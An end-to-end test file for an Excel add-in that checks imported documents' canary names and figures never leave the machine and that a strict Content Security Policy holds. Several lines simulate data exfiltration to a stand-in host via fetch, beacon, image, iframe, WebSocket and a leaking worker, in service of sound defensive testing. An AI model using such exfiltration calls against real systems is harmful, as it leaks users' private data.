import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type ExcelSide } from '../../src/workbench/excel-side/excel-side';
import { buildPdf, textAt } from '../support/pdf-builder';
import { findTraces, type RecordedRequest, RecordingProxy } from '../support/recording-proxy';
import { ServerProcess, WorkbenchPage } from '../support/workbench-page';

/**
 * What leaves the machine when documents are used: nothing. All traffic of the browser goes through a proxy that keeps it, and the browser
 * itself tells what its pages, frames and workers ask for; the documents carry names and figures that stand nowhere else, and no request may
 * carry one of them. What only the proxy sees are the browser's own services: they are searched for the documents' marks as well.
 */

const TITLE = 'Zyxolav Kanariehjem';
const PDF_TITLE = 'Qvendrupbro Sangskole';

const AGREEMENT = `Aftale om udmøntning af kanariepuljen 2026-2029

Partierne bag aftalen er enige om det initiativ, der beskrives her.

${TITLE}

Der afsættes i alt 91.379,7 mio. kr. i 2026-2029 til blomsterfrø til burfugle.

Baggrund og indhold
Fuglene mangler noget at leve af.

Økonomi
Der afsættes i alt 91.379,7 mio. kr. til initiativet, jf. tabel 1.

Tabel 1

${TITLE}

Mio. kr., 2026-pl 2026 2027 2028 2029
I alt
(2026-2029)
I alt 91.373,7 3,0 2,0 1,0 91.379,7
Blomsterfrø til burfugle 91.373,7 3,0 2,0 1,0 91.379,7
`;

/** Text of the PDF: its height above the bottom of the page, its size, and whether it is bold. Units: points. */
const PDF_LINES: readonly (readonly [y: number, size: number, text: string, font?: string])[] = [
  [760, 16, PDF_TITLE, 'F2'],
  [730, 10, 'Der afsættes i alt 73.925,3 mio. kr. i 2026-2029 til nodepapir til nattergale.'],
  [700, 12, 'Baggrund og indhold', 'F2'],
  [680, 10, 'Fuglene mangler noget at synge efter.'],
  [650, 12, 'Økonomi', 'F2'],
  [630, 10, 'Der afsættes i alt 73.925,3 mio. kr. til initiativet, jf. tabel 1.'],
  [600, 10, 'Tabel 1'],
  [580, 10, PDF_TITLE],
];
const PDF_ROWS = [
  ['Mio. kr., 2026-pl', '2026', '2027', '2028', '2029', 'I alt'],
  ['I alt', '73.919,3', '3,0', '2,0', '1,0', '73.925,3'],
  ['Nodepapir til nattergale', '73.919,3', '3,0', '2,0', '1,0', '73.925,3'],
];
/** Where the columns begin. Units: points from the left edge. */
const PDF_COLUMNS = [60, 240, 300, 360, 420, 480];

const TEXT_FILE = { name: 'wexlurp-aftale.txt', mimeType: 'text/plain', buffer: Buffer.from(AGREEMENT) };
const PDF_FILE = { name: 'vromkist-aftale.pdf', mimeType: 'application/pdf', buffer: Buffer.from(pdf()) };

function pdf(): Uint8Array {
  const lines = PDF_LINES.map(([y, size, text, font]) => textAt(60, y, text, size, font));
  const rows = PDF_ROWS.flatMap((row, index) => row.map((text, column) => textAt(PDF_COLUMNS[column] ?? 0, 550 - index * 20, text)));
  return buildPdf([{ content: [...lines, ...rows].join('') }]);
}

/** Names, figures in every notation, file names and the documents' own hashes. */
const CANARIES = [
  ...['Zyxolav', 'Kanariehjem', 'burfugle', 'Qvendrupbro', 'Nodepapir', 'kanariepuljen', 'wexlurp', 'vromkist'],
  ...['91.373,7', '91373,7', '91373.7', '913737', '91.379,7', '91379.7', '73.919,3', '73919.3', '739193', '73.925,3', '73925.3'],
  ...[TEXT_FILE, PDF_FILE].map(({ buffer }) => createHash('sha256').update(buffer).digest('hex')),
];

const POLICY =
  "default-src 'none'; script-src 'self' https://officeapis.public.onecdn.static.microsoft https://appsforoffice.microsoft.com; worker-src 'self'; " +
  "style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self'; connect-src 'self'; object-src 'none'; base-uri 'none'; form-action 'none'";

let server: ServerProcess;
let origin: string;
let proxy: RecordingProxy;
let workbench: WorkbenchPage;
const complaints: string[] = [];
/** What pages, frames and workers asked for, as the browser tells it. */
const pageRequests: RecordedRequest[] = [];
const sockets: string[] = [];
const workers: string[] = [];
/** The policy that came with each answer, by its address. */
const policies = new Map<string, string>();

beforeAll(async () => {
  server = await ServerProcess.workbench();
  origin = new URL(server.address).origin;
  proxy = await RecordingProxy.start();
  workbench = await WorkbenchPage.open(`${origin}/`, { proxy: proxy.address });
  workbench.page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text());
  });
  workbench.context.on('response', (response) => policies.set(response.url(), response.headers()['content-security-policy'] ?? ''));
  workbench.page.on('worker', (worker) => workers.push(worker.url()));
  workbench.page.on('websocket', (socket) => sockets.push(socket.url()));
  workbench.context.on('request', (request) => {
    pageRequests.push({ method: request.method(), url: request.url(), headers: JSON.stringify(request.headers()), body: request.postDataBuffer() ?? Buffer.alloc(0) });
  });
  await workbench.reload();
});

afterAll(async () => {
  await workbench?.close();
  await server?.stop();
  await proxy?.stop();
});

const button = (name: RegExp) => workbench.pane.getByRole('button', { name }).first();
const tab = (name: string) => workbench.pane.getByRole('tab', { name });
/** What was asked for elsewhere since a count of requests. */
const elsewhereSince = (seen: number): string[] => proxy.requests.slice(seen).map(({ url }) => url).filter((url) => url.includes('elsewhere.example'));

async function importFile(file: { readonly name: string; readonly mimeType: string; readonly buffer: Buffer }, title: string): Promise<void> {
  await tab('Import').click();
  if ((await workbench.pane.locator('input[type=file]').count()) === 0) await button(/^Tilbage/).click();
  await workbench.pane.locator('input[type=file]').first().setInputFiles(file);
  await workbench.pane.getByText(title).first().waitFor();
  await button(/Indsæt i projektmappen/).click();
  await workbench.pane.getByText('Aftalen er indsat:').first().waitFor();
}

/** Selects the imported cell that holds a figure, as the user would. */
function selectFigure(figure: number): Promise<void> {
  return workbench.page.evaluate((wanted) => {
    const { side } = (window as Window & { readonly workbench?: { readonly side: ExcelSide } }).workbench ?? {};
    for (const sheet of side?.workbook.sheets ?? []) {
      // An overview's first rows are its heading and sums; its table is below.
      for (let row = 4; row < 40 && sheet.name !== 'Ark1'; row += 1) {
        for (let column = 0; column < 20; column += 1) {
          if (sheet.valueAt(row, column) === wanted) return side?.workbook.select(sheet, side.areaOf(`${String.fromCharCode(65 + column)}${row + 1}`), 'user');
        }
      }
    }
    throw new Error(`No imported cell holds ${wanted}`);
  }, figure);
}

test('documents are imported, asked by formula, looked up, spoilt, put on paper, saved and loaded again', async () => {
  await importFile(TEXT_FILE, TITLE);
  await workbench.type('Ark1', 'A2', `=RESERVE.TOTAL("${TITLE}")`);
  await workbench.until(() => workbench.cell('Ark1', 'A2'), ({ value }) => value === 91_379.7);
  await tab('Kilde').click();
  await importFile(PDF_FILE, PDF_TITLE);
  await workbench.type('Ark1', 'A3', `=RESERVE.TOTAL("${PDF_TITLE}",2026)`);
  await workbench.until(() => workbench.cell('Ark1', 'A3'), ({ value }) => value === 73_919.3);
  await tab('Kilde').click();
  await selectFigure(73_919.3);
  await workbench.pane.locator('[data-highlight]').waitFor();
  // One worker reads documents, one parses their PDFs, one draws pages.
  await workbench.until(async () => new Set(workers).size, (count) => count === 3);
  await workbench.page.locator('#command-Reserve\\.Check').click();
  await button(/Flere handlinger/).click();
  await workbench.pane.getByRole('group', { name: 'Indsæt arbejdspapir for' }).getByRole('menuitem').last().click();
  await workbench.pane.getByText('Arbejdspapiret er indsat').first().waitFor();
  await workbench.page.locator('#file-save').click();
  await workbench.page.keyboard.press('Enter');
  await workbench.page.waitForTimeout(1000);
  await workbench.reload();
  await workbench.until(() => workbench.cell('Ark1', 'A3'), ({ value }) => value === 73_919.3);
});

const isOwn = ({ url }: RecordedRequest): boolean => url.startsWith(`${origin}/`) || url.startsWith('data:');

test.each([
  ['the browser', pageRequests],
  ['the proxy', () => proxy.requests],
])('the record of %s covers the page, the pane, its catalogues and its workers', (_whose, of) => {
  const requests = typeof of === 'function' ? of() : of;
  for (const path of [/^\/$/, /^\/taskpane\.html/, /^\/chunks\/taskpane-/, /^\/catalogue\/index\.json/, /^\/assets\/catalogue\/index\.json/, ...workers.map((address) => new RegExp(`^${new URL(address).pathname}`))]) {
    expect(requests.filter(({ url }) => url.startsWith(origin) && path.test(url.slice(origin.length)))).not.toEqual([]);
  }
});

test('every request of pages, frames and workers went to the own origin and sent nothing along', () => {
  expect(pageRequests.filter((request) => !isOwn(request)).map(({ method, url }) => `${method} ${url}`)).toEqual([]);
  expect(pageRequests.filter(({ method, body }) => method !== 'GET' || body.length > 0).map(({ method, url }) => `${method} ${url}`)).toEqual([]);
  expect(proxy.requests.filter((request) => isOwn(request) && (request.method !== 'GET' || request.body.length > 0)).map(({ method, url }) => `${method} ${url}`)).toEqual([]);
  expect(sockets).toEqual([]);
});

test('no request of the browser at all carried a name, a figure or a hash of a document', () => {
  expect([...pageRequests, ...proxy.requests].flatMap((request) => findTraces(request, CANARIES).map((canary) => `${canary}: ${request.url}`))).toEqual([]);
});

test('nothing was missing and nothing broke the policy meanwhile', () => {
  expect(complaints).toEqual([]);
  expect(workbench.problems).toEqual([]);
});

test('the pane carries the strict policy, and it holds', async () => {
  expect(await workbench.pane.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')).toBe(POLICY);
  for (const page of ['security', 'deployment']) expect(readFileSync(join(__dirname, `../../docs/${page}.md`), 'utf8')).toContain(POLICY);
  const seen = proxy.requests.length;
  const refused = await workbench.pane.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => violations.push(`${effectiveDirective} ${blockedURI}`));
    const name = 'eval';
    const tryTo = async (act: () => unknown): Promise<string> => {
      try {
        await act();
        return 'done';
      } catch {
        return 'refused';
      }
    };
    // The browser's own tools may evaluate; what runs after them may not.
    await new Promise((resolve) => setTimeout(resolve));
    const outcomes = {
      eval: await tryTo(() => globalThis[name]('1')),
      function: await tryTo(() => new Function('return 1')()),
      fetch: await tryTo(() => fetch('http://elsewhere.example/fetch?Zyxolav')),
      socket: await tryTo(() => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://elsewhere.example/socket'), { onopen: resolve, onerror: reject }))),
    };
    navigator.sendBeacon('http://elsewhere.example/beacon', 'Zyxolav');
    const image = new Image();
    image.src = 'http://elsewhere.example/image?Zyxolav';
    const inline = document.createElement('script');
    inline.textContent = "document.body.dataset.injected = '1'";
    const frame = document.createElement('iframe');
    frame.src = 'http://elsewhere.example/frame?Zyxolav';
    document.body.append(image, inline, frame);
    await new Promise((resolve) => setTimeout(resolve, 500));
    for (const element of [image, inline, frame]) element.remove();
    return { ...outcomes, isInjected: document.body.dataset['injected'] !== undefined, directives: [...new Set(violations.map((one) => one.split(' ')[0]))].sort() };
  });
  expect(refused).toEqual({
    eval: 'refused',
    function: 'refused',
    fetch: 'refused',
    socket: 'refused',
    isInjected: false,
    directives: ['connect-src', 'frame-src', 'img-src', 'script-src', 'script-src-elem'],
  });
  expect(elsewhereSince(seen)).toEqual([]);
});

test('workers carry the policy too: it comes with their script, not with the page', () => {
  for (const address of workers) expect(policies.get(address)).toContain(POLICY);
});

test('both records would have shown a leak, from the page and from a worker', async () => {
  const seen = { page: pageRequests.length, proxy: proxy.requests.length };
  proxy.scripts.set(`${origin}/leaking-worker.js`, `fetch('http://elsewhere.example/?Zyxolav').catch(() => postMessage('sent'))`);
  await workbench.pane.evaluate(async () => {
    await fetch(`/leak?${btoa('x Zyxolav y')}`);
    await fetch('/leak', { method: 'POST', body: '{"total":91373.7}' });
    await new Promise((resolve) => Object.assign(new Worker('/leaking-worker.js'), { onmessage: resolve }));
  });
  const leaks = (requests: readonly RecordedRequest[]): string[] => requests.flatMap((request) => findTraces(request, CANARIES));
  expect(leaks(pageRequests.slice(seen.page))).toEqual(['Zyxolav', '91373.7', 'Zyxolav']);
  expect(leaks(proxy.requests.slice(seen.proxy))).toEqual(['Zyxolav', '91373.7', 'Zyxolav']);
  expect(pageRequests.slice(seen.page).filter((request) => !isOwn(request))).toHaveLength(1);
});
